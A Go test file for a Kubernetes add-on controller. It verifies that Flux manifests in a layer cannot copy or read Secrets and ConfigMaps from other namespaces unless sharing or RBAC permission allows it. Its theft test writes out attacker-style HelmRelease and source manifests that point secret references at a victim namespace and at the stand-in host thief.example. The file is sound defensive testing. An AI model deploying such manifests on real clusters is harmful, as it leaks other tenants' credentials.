// Copyright The Strata Authors.
// SPDX-License-Identifier: Apache-2.0

package controllers

import (
	"fmt"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	helmv2 "github.com/fluxcd/helm-controller/api/v2"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/strata-project/strata/api/v1alpha1"
	"github.com/strata-project/strata/test/controlplane"
)

// fleet is a controller as the chart installs it with remoteClusters.enabled, with
// a RemoteCluster prod that is another API server, and a namespace of somebody else.
type fleet struct {
	*fixture
	other *controlplane.ControlPlane
	far   client.Client
	// victim is a namespace that is neither the controller's nor the RemoteCluster's.
	victim string

	mu sync.Mutex
	// read lists requests for what Secrets and ConfigMaps of victim hold.
	read []string
}

func newFleet(t *testing.T, options ...func(*AddonsLayerReconciler)) *fleet {
	t.Helper()
	f := newIdleFleet(t)
	config := f.asController(rulesOfRemoteClusters)
	config.Wrap(f.count)
	config.Wrap(f.note)
	mgr, reconciler := f.assemble(config, managerOptions(), time.Second)
	for _, option := range options {
		option(reconciler)
	}
	f.startWithClusters(mgr, reconciler)
	f.joinProd()
	return f
}

// newIdleFleet is newFleet without a controller and a RemoteCluster.
func newIdleFleet(t *testing.T) *fleet {
	t.Helper()
	f := &fleet{fixture: newBareFixture(t)}
	f.victim = f.namespace + "-victim"
	f.must(plane.CreateNamespace(f.ctx, f.victim))
	var err error
	f.other, err = controlplane.Start(f.ctx, controlplane.Options{With: controlplane.APIOnly()})
	f.must(err)
	t.Cleanup(func() {
		if err := f.other.Stop(); err != nil {
			t.Error(err)
		}
	})
	f.far, err = client.New(f.other.Config(), client.Options{Scheme: newScheme()})
	f.must(err)
	return f
}

// joinProd makes the RemoteCluster prod of the other API server.
func (f *fleet) joinProd() {
	f.Helper()
	kubeconfig, err := os.ReadFile(f.other.Kubeconfig())
	f.must(err)
	f.join("prod", kubeconfig)
}

// note remembers what is read of Secrets and ConfigMaps of others beyond metadata.
func (f *fleet) note(next http.RoundTripper) http.RoundTripper {
	return roundTripper(func(req *http.Request) (*http.Response, error) {
		path := req.URL.Path
		if (strings.Contains(path, "/secrets") || strings.Contains(path, "/configmaps")) && !strings.Contains(req.Header.Get("Accept"), "PartialObjectMetadata") &&
			(strings.Contains(path, "/"+f.victim+"/") || !strings.Contains(path, "/namespaces/")) {
			f.mu.Lock()
			f.read = append(f.read, req.Method+" "+req.URL.RequestURI())
			f.mu.Unlock()
		}
		return next.RoundTrip(req)
	})
}

func (f *fleet) reads() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.read)
}

// join makes a RemoteCluster of a kubeconfig.
func (f *fleet) join(name string, kubeconfig []byte) {
	f.Helper()
	meta1 := metav1.ObjectMeta{Namespace: f.namespace, Name: name, Labels: map[string]string{"test": f.namespace}}
	f.must(f.client.Create(f.ctx, &corev1.Secret{ObjectMeta: meta1, Data: map[string][]byte{"value": kubeconfig}}))
	cluster := &v1alpha1.RemoteCluster{ObjectMeta: meta1, Spec: v1alpha1.RemoteClusterSpec{KubeConfig: v1alpha1.KubeConfigSource{SecretRef: v1alpha1.SecretKeyReference{Name: name}}}}
	f.must(f.client.Create(f.ctx, cluster))
	f.Cleanup(func() {
		f.cancel()
		f.stopped()
		f.must(f.client.Patch(f.ctx, cluster, client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`))))
		f.must(client.IgnoreNotFound(f.client.Delete(f.ctx, cluster)))
	})
	f.eventually("RemoteCluster "+name+" is ready", func() error {
		if status := f.clusterStatus(name); !meta.IsStatusConditionTrue(status.Conditions, v1alpha1.ReadyCondition) {
			return fmt.Errorf("it is %+v", status)
		}
		return nil
	})
}

// onFleet puts a layer on the RemoteCluster, as an account where one is named.
func (f *fleet) onFleet(name, account string) {
	f.Helper()
	f.layerWith(name, func(layer *v1alpha1.AddonsLayer) {
		layer.Spec.Cluster = &v1alpha1.ClusterReference{Namespace: f.namespace, Name: "prod"}
		layer.Spec.ServiceAccountName = account
	})
}

// copies returns the data of copies that were made, by what they are copies of.
func (f *fleet) copies() map[string]string {
	f.Helper()
	found := map[string]string{}
	secrets, configMaps := &corev1.SecretList{}, &corev1.ConfigMapList{}
	f.must(f.client.List(f.ctx, secrets, client.InNamespace(f.namespace)))
	for _, secret := range secrets.Items {
		if of := secret.Annotations[v1alpha1.CopyOfAnnotation]; of != "" {
			found[strings.TrimPrefix(of, "Secret/")] = string(secret.Data["values.yaml"])
		}
	}
	f.must(f.client.List(f.ctx, configMaps, client.InNamespace(f.namespace)))
	for _, configMap := range configMaps.Items {
		if of := configMap.Annotations[v1alpha1.CopyOfAnnotation]; of != "" {
			found[of] = configMap.Data["values.yaml"]
		}
	}
	return found
}

// released tells whether a release of a name is beside the RemoteCluster, and returns
// its name there.
func (f *fleet) released(name string) string {
	f.Helper()
	list := &helmv2.HelmReleaseList{}
	f.must(f.client.List(f.ctx, list, client.InNamespace(f.namespace)))
	for _, release := range list.Items {
		if strings.HasPrefix(release.Name, "prod-"+name+"-") {
			return release.Name
		}
	}
	return ""
}

// appears waits until a layer's release is beside the RemoteCluster, and returns its
// name there.
func (f *fleet) appears(layer, release string) (name string) {
	f.Helper()
	f.eventually("the release is there", func() error {
		if name = f.released(release); name == "" {
			return fmt.Errorf("the layer is %+v", f.get(layer).Status.Conditions)
		}
		return nil
	})
	return name
}

// says waits until a layer's message has words in it.
func (f *fleet) says(layer string, words ...string) {
	f.Helper()
	f.eventually("layer "+layer+" says why it waits", func() error {
		status := f.get(layer).Status
		ready := meta.FindStatusCondition(status.Conditions, v1alpha1.ReadyCondition)
		if ready == nil {
			return fmt.Errorf("it is %+v", status)
		}
		for _, word := range words {
			if !strings.Contains(ready.Message, word) {
				return fmt.Errorf("it is %s: %s", status.State, ready.Message)
			}
		}
		return nil
	})
}

// secret makes or changes a Secret with values.
func (f *fleet) secret(on client.Client, namespace, name, values string, annotations ...string) {
	f.Helper()
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name}, Data: map[string][]byte{"values.yaml": []byte(values)}}
	for i := 0; i+1 < len(annotations); i += 2 {
		metav1.SetMetaDataAnnotation(&secret.ObjectMeta, annotations[i], annotations[i+1])
	}
	if err := on.Create(f.ctx, secret); err != nil {
		f.must(on.Update(f.ctx, secret))
	}
}

// Whoever writes the directory of a layer of another cluster is given nothing of
// other namespaces, by whatever field he asks: nothing is copied, and what is there
// is not even read.
func TestThiefIsGivenNothing(t *testing.T) {
	f := newFleet(t)
	f.secret(f.client, f.victim, "strata-kubeconfig-other", "stolen")
	f.secret(f.client, f.victim, "token", "stolen")
	f.secret(f.client, f.victim, "shared-with-others", "stolen", v1alpha1.ShareWithAnnotation, "remotecluster/"+f.namespace+"/other, layer/other")
	f.secret(f.client, f.victim, "shared-by-mistake", "stolen", v1alpha1.ShareWithAnnotation, "*")
	f.must(f.client.Create(f.ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: f.victim, Name: "token"}, Data: map[string]string{"values.yaml": "stolen"}}))
	names := []string{"strata-kubeconfig-other", "token", "shared-with-others", "shared-by-mistake"}
	files := map[string]string{}
	source := func(kind, name, spec string) string {
		return fmt.Sprintf("apiVersion: source.toolkit.fluxcd.io/v1\nkind: %s\nmetadata: {namespace: %s, name: %s}\nspec: {interval: 1m, url: 'https://thief.example', %s}\n", kind, f.victim, name, spec)
	}
	want := 0
	for i, name := range names {
		ref := "{name: " + name + "}"
		for j, made := range []string{
			fmt.Sprintf("apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {namespace: %s, name: NAME}\nspec:\n  interval: 1m\n"+
				"  chart: {spec: {chart: any, sourceRef: {kind: HelmRepository, name: charts}}}\n  valuesFrom: [{kind: Secret, name: %s, valuesKey: value, targetPath: stolen}]\n", f.victim, name),
			source("HelmRepository", "NAME", "secretRef: "+ref),
			source("HelmRepository", "NAME", "certSecretRef: "+ref),
			source("GitRepository", "NAME", "proxySecretRef: "+ref),
			source("GitRepository", "NAME", "verify: {mode: HEAD, secretRef: "+ref+"}"),
			strings.Replace(source("Bucket", "NAME", "bucketName: a, endpoint: thief.example, provider: generic, sts: {provider: ldap, endpoint: 'https://thief.example', secretRef: "+ref+"}"), "url: 'https://thief.example', ", "", 1),
			strings.Replace(source("OCIRepository", "NAME", "verify: {provider: cosign, secretRef: "+ref+"}"), "https://", "oci://", 1),
		} {
			files[fmt.Sprintf("thief/%d-%d.yaml", i, j)] = strings.ReplaceAll(made, "NAME", fmt.Sprintf("thief-%d-%d", i, j))
			want++
		}
	}
	files["thief/configmap.yaml"] = fmt.Sprintf("apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {namespace: %s, name: thief-map}\nspec:\n  interval: 1m\n"+
		"  chart: {spec: {chart: any, sourceRef: {kind: HelmRepository, name: charts}}}\n  valuesFrom: [{kind: ConfigMap, name: token}]\n", f.victim)
	files["thief/honest.yaml"] = strings.ReplaceAll(f.release("honest"), "namespace: "+f.namespace, "namespace: "+f.victim)
	f.must(f.client.Create(f.ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: f.namespace, Name: "nobody"}}))
	f.must(f.far.Create(f.ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: f.namespace}}))
	f.must(f.far.Create(f.ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: f.namespace, Name: "nobody"}}))
	f.must(f.far.Create(f.ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: f.victim}}))
	f.publish("main@sha1:1", files)
	f.onFleet("thief", "nobody")
	f.says("thief", "ConfigMap "+f.victim+"/token", "is not given without leave")
	f.eventually("the release that asks for nothing is written all the same", func() error {
		if f.released("honest") == "" {
			return fmt.Errorf("the layer is %+v", f.get("thief").Status)
		}
		return nil
	})
	f.settle()
	if status := f.get("thief").Status; status.State != v1alpha1.StateApplying {
		t.Errorf("the layer is %s: %+v", status.State, status.Conditions)
	}
	if got := f.copies(); len(got) > 0 {
		t.Errorf("copied are %v", got)
	}
	list := &helmv2.HelmReleaseList{}
	f.must(f.client.List(f.ctx, list, client.InNamespace(f.namespace)))
	if len(list.Items) != 1 {
		t.Errorf("there are %d releases, want the honest one alone", len(list.Items))
	}
	if got := f.reads(); len(got) > 0 {
		t.Errorf("what is not given was read:\n%s", strings.Join(got, "\n"))
	}
	if want < 28 {
		t.Errorf("only %d attempts were made", want)
	}
}

// valuesFrom returns a release of the victim's namespace with values of Secrets.
func (f *fleet) valuesFrom(name string, secrets ...string) string {
	refs := make([]string, 0, len(secrets))
	for _, secret := range secrets {
		refs = append(refs, "{kind: Secret, name: "+secret+"}")
	}
	return strings.Replace(f.release(name), "namespace: "+f.namespace, "namespace: "+f.victim, 1) + "  valuesFrom: [" + strings.Join(refs, ", ") + "]\n"
}

// mayGet lets the account deployer of the RemoteCluster's namespace get one Secret of
// the victim's, and returns how that ends.
func (f *fleet) mayGet(secret string) (revoke func()) {
	f.Helper()
	named := metav1.ObjectMeta{Namespace: f.victim, Name: "reader"}
	f.must(f.client.Create(f.ctx, &rbacv1.Role{ObjectMeta: named, Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{secret}, Verbs: []string{"get"}}}}))
	binding := &rbacv1.RoleBinding{
		ObjectMeta: named, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "reader"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: f.namespace, Name: "deployer"}},
	}
	f.must(f.client.Create(f.ctx, binding))
	return func() { f.must(f.client.Delete(f.ctx, binding)) }
}

// deployers makes the account deployer here and, as an administrator, there.
func (f *fleet) deployers() {
	f.Helper()
	for _, on := range []client.Client{f.client, f.far} {
		f.must(client.IgnoreAlreadyExists(on.Create(f.ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: f.namespace}})))
		f.must(on.Create(f.ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: f.namespace, Name: "deployer"}}))
	}
	f.must(f.far.Create(f.ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "deployer"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: f.namespace, Name: "deployer"}},
	}))
}

// copied waits until there are these copies and no others.
func (f *fleet) copied(what string, want map[string]string) {
	f.Helper()
	f.eventually(what, func() error {
		got := f.copies()
		if len(got) != len(want) {
			return fmt.Errorf("copied are %v; the layer is %+v", got, f.get("base").Status.Conditions)
		}
		for name, values := range want {
			if got[f.victim+"/"+name] != values {
				return fmt.Errorf("copied are %v", got)
			}
		}
		return nil
	})
}

// What is given is copied in each of the ways, costs nothing at rest, and follows its
// origin until the leave ends.
func TestGivenWithLeave(t *testing.T) {
	f := newFleet(t)
	f.deployers()
	f.mayGet("allowed")
	f.must(f.far.Create(f.ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: f.victim}}))
	f.secret(f.far, f.victim, "there", "there")
	f.secret(f.client, f.namespace, "beside", "beside", v1alpha1.ShareWithAnnotation, v1alpha1.ShareWithClusters)
	f.secret(f.client, f.victim, "shared", "shared", v1alpha1.ShareWithAnnotation, "remotecluster/"+f.namespace+"/prod")
	f.secret(f.client, f.victim, "named", "named", v1alpha1.ShareWithAnnotation, "layer/"+f.name("base"))
	f.secret(f.client, f.victim, "allowed", "allowed")
	for _, nearer := range []string{"there", "beside"} {
		f.secret(f.client, f.victim, nearer, "wrong")
	}
	f.publish("main@sha1:1", map[string]string{
		"base/a.yaml":      f.valuesFrom("a", "listed", "there", "beside", "shared", "named", "allowed"),
		"base/listed.yaml": fmt.Sprintf("apiVersion: v1\nkind: Secret\nmetadata: {namespace: %s, name: listed}\nstringData: {values.yaml: listed}\n", f.victim),
	})
	f.onFleet("base", "deployer")
	all := map[string]string{"listed": "listed", "there": "there", "beside": "beside", "shared": "shared", "named": "named", "allowed": "allowed"}
	f.copied("all that is given is copied", all)
	f.ready(f.appears("base", "a"))
	f.deployed("base", "main@sha1:1")
	for _, read := range f.reads() {
		for _, name := range []string{"there", "beside"} {
			if strings.Contains(read, "%3D"+name) || strings.Contains(read, "="+name) {
				t.Errorf("what is not given was read: %s", read)
			}
		}
	}

	f.silent()

	f.secret(f.client, f.victim, "shared", "shared two", v1alpha1.ShareWithAnnotation, "remotecluster/"+f.namespace+"/prod")
	all["shared"] = "shared two"
	f.copied("a change is followed", all)
	f.secret(f.client, f.victim, "shared", "shared three", v1alpha1.ShareWithAnnotation, "remotecluster/"+f.namespace+"/other")
	f.says("base", "Secret "+f.victim+"/shared", "kubectl --namespace "+f.victim+" annotate --field-manager=strata-cli secret shared kraan.io/share-with=remotecluster/"+f.namespace+"/prod")
	f.settle()
	if got := f.copies()[f.victim+"/shared"]; got == "shared three" {
		t.Fatal("it is copied after its leave has ended")
	}
	f.secret(f.client, f.victim, "shared", "shared four", v1alpha1.ShareWithAnnotation, "layer/"+f.name("base"))
	all["shared"] = "shared four"
	f.copied("with leave again it is followed again", all)
}

// A right that an account has lost is noticed although no watch tells of it.
func TestGivenUntilTheRightEnds(t *testing.T) {
	f := newFleet(t, func(r *AddonsLayerReconciler) { r.reviewed = time.Second })
	f.deployers()
	revoke := f.mayGet("allowed")
	f.secret(f.client, f.victim, "allowed", "one")
	f.must(f.far.Create(f.ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: f.victim}}))
	f.publish("main@sha1:1", map[string]string{"base/a.yaml": f.valuesFrom("a", "allowed")})
	f.onFleet("base", "deployer")
	f.copied("what the account may get is copied", map[string]string{"allowed": "one"})
	f.ready(f.appears("base", "a"))
	f.deployed("base", "main@sha1:1")
	revoke()
	f.says("base", "Secret "+f.victim+"/allowed", "or let ServiceAccount "+f.namespace+"/deployer get it")
	f.secret(f.client, f.victim, "allowed", "two")
	f.taken()
	asked := 0
	f.eventually("the right is asked for twice more", func() error {
		requests, _ := f.taken()
		for _, r := range requests {
			if strings.Contains(r.what, "subjectaccessreviews") {
				asked++
			}
		}
		if asked < 2 {
			return fmt.Errorf("it was %d times", asked)
		}
		return nil
	})
	if got := f.copies()[f.victim+"/allowed"]; got == "two" {
		t.Fatal("it is copied after the right has ended")
	}
}
